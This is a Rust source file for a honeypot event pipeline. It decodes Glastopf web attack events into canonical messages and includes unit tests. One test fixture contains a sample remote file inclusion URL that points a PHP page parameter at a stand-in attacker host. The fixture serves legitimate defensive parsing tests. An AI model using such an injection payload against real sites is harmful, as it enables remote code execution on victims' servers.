//! Glastopf - web application honeypot

use crate::field::Fields;
use crate::{inbound, CONNECTION_SIGNATURE};
use hpfeeds_core::events::CanonicalMessage;
use hpfeeds_core::plugins::{DecodeResult, Decoder, PluginInfo};
use serde_json::Value;
use tracing::debug;

/// Decodes `glastopf.events`.
///
/// Requests Glastopf could not classify (`pattern == "unknown"`) carry no
/// signal and are dropped.
pub struct GlastopfDecoder;

impl PluginInfo for GlastopfDecoder {
    fn name(&self) -> &str {
        "glastopf"
    }

    fn description(&self) -> &str {
        "Glastopf web attack events"
    }
}

impl Decoder for GlastopfDecoder {
    fn decode(&self, sensor: &str, payload: &[u8]) -> DecodeResult<Vec<CanonicalMessage>> {
        let f = Fields::parse(payload)?;

        if f.str("pattern") == Some("unknown") {
            debug!("Dropping glastopf event with unknown pattern from {}", sensor);
            return Ok(Vec::new());
        }

        let msg = inbound("glastopf.events", sensor, "Glastopf", "glastopf")
            .src_ip(f.index("source", 0)?)
            .src_port(f.index("source", 1)?)
            .dest_ip(Value::Null)
            .dest_port(80)
            .severity("high")
            .signature(CONNECTION_SIGNATURE)
            .build();

        Ok(vec![msg])
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hpfeeds_core::plugins::DecodeError;
    use serde_json::json;

    #[test]
    fn test_decode_glastopf_event() {
        let payload = json!({
            "pattern": "rfi",
            "time": "2015-01-01 10:00:00",
            "source": ["192.0.2.10", 51234],
            "request_url": "/index.php?page=http://evil.example/x.txt"
        });

        let out = GlastopfDecoder
            .decode("glastopf-1", payload.to_string().as_bytes())
            .unwrap();
        assert_eq!(out.len(), 1);

        let msg = &out[0];
        assert_eq!(msg.event_type, "glastopf.events");
        assert_eq!(msg.src_ip, "192.0.2.10");
        assert_eq!(msg.src_port, 51234);
        assert!(msg.dest_ip.is_null());
        assert_eq!(msg.dest_port, 80);
        assert_eq!(msg.severity, "high");
        assert_eq!(msg.app, "glastopf");
    }

    #[test]
    fn test_unknown_pattern_dropped() {
        let payload = json!({"pattern": "unknown", "source": ["192.0.2.10", 51234]});
        let out = GlastopfDecoder
            .decode("glastopf-1", payload.to_string().as_bytes())
            .unwrap();
        assert!(out.is_empty());
    }

    #[test]
    fn test_missing_source_is_an_error() {
        let payload = json!({"pattern": "sqli"});
        let err = GlastopfDecoder
            .decode("glastopf-1", payload.to_string().as_bytes())
            .unwrap_err();
        assert!(matches!(err, DecodeError::MissingField("source")));
    }
}
